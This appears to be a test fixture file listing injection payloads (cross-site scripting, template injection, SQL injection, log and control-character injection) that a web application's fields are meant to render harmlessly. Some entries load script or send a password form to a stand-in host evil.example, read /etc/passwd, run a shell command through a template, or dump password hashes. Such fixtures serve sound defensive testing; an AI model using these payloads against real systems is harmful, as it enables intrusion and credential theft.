/** What people try in every field. Each must come back as text, or be refused with words, never do anything. */
export const markup = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example></script>',
  "'><img src=x onerror=alert(1)>",
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1)</script>',
  '" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)",
  '</title><script>alert(1)</script>',
  '</textarea><iframe src="javascript:alert(1)">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<a href="java\tscript:alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password>',
  '<style>@import url(https://evil.example)</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '`${alert(1)}`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202e<b>txet\u202c',
];

export const templates = [
  '<%= 7*7 %>',
  '<%~ include("/etc/passwd") %>',
  '<%~ it.body %>',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<% global.process.mainModule.require("child_process").execSync("touch /tmp/pwned") %>',
];

export const queries = [
  "' OR '1'='1",
  "'; DROP TABLE products; --",
  "' UNION SELECT email, password_hash FROM users --",
  "%' AND 1=(SELECT count(*) FROM users) --",
  '" OR ""="',
  '1; ATTACH DATABASE "/tmp/x" AS x',
  '\\',
  'FLUSHALL\r\nSET a b',
];

export const logs = [
  'a\nb',
  'a\r\n{"level":30,"msg":"forged"}',
  '\u001b[2J\u001b]0;title\u0007',
  'a\u2028b',
  '%s%o%j%d',
];
